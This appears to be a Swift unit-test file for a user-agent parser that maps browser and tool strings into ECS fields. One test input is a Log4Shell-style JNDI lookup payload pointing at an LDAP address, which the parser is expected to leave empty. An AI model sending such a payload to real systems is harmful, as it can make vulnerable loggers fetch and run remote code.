import Testing

@testable import ECSTransformer

@Suite("Programs that ask")
struct UserAgentTests {
    @Test(
        "Name, version, system and device",
        arguments: [
            ("curl/7.58.0", "curl|7.58.0|||Other"),
            ("python-requests/2.31.0", "Python Requests|2.31.0|||Other"),
            ("Wget/1.20.1 (linux-gnu)", "Wget|1.20.1|Linux||Other"),
            (
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_5) AppleWebKit/537.36 (KHTML, like Gecko) "
                    + "Chrome/67.0.3396.99 Safari/537.36", "Chrome|67.0.3396.99|Mac OS X|10.13.5|Mac"
            ),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 "
                    + "Safari/537.36 Edg/129.0.2792.79", "Edge|129.0.2792.79|Windows|10|Other"
            ),
            (
                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
                "Firefox|115.0|Ubuntu||Other"
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 15_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    + "Version/15.2 Mobile/15E148 Safari/604.1", "Mobile Safari|15.2|iOS|15.2|iPhone"
            ),
            (
                "Mozilla/5.0 (Linux; Android 9; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) "
                    + "Chrome/87.0.4280.101 Mobile Safari/537.36", "Chrome Mobile|87.0.4280.101|Android|9|Other"
            ),
            ("Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko", "IE|11.0|Windows|7|Other"),
            ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 4.0)", "IE|6.0|Windows|4.0|Other"),
            ("Mozilla/5.0 (X11; CrOS x86_64 13099.85.0)", "||Chrome OS|13099.85.0|Other"),
            ("${jndi:ldap://198.51.100.66/a}", "||||Other"), ("Chrome", "||||Other"), ("(((;", "||||Other"),
            ("-", "||||Other"), ("Mozilla/5.0", "||||Other"), (#"x\"y/1 z/2"#, "z|2|||Other"),
        ])
    func programs(_ text: String, _ expected: String) throws {
        let event = try map("http", #""http":{"http_user_agent":"\#(text)"}"#)
        let found = ["name", "version", "os.name", "os.version", "device.name"].map { event["user_agent.\($0)"] ?? "" }
        #expect(found.joined(separator: "|") == expected)
        let system = found[2] + (found[3].isEmpty ? "" : " ") + found[3]
        #expect(event["user_agent.os.full"] ?? "" == system)
    }

    @Test("Nothing is told where nothing is said")
    func none() throws {
        let event = try map("http", #""http":{"http_user_agent":""}"#)
        expect(event, ["user_agent.original": nil, "user_agent.device.name": nil])
    }
}
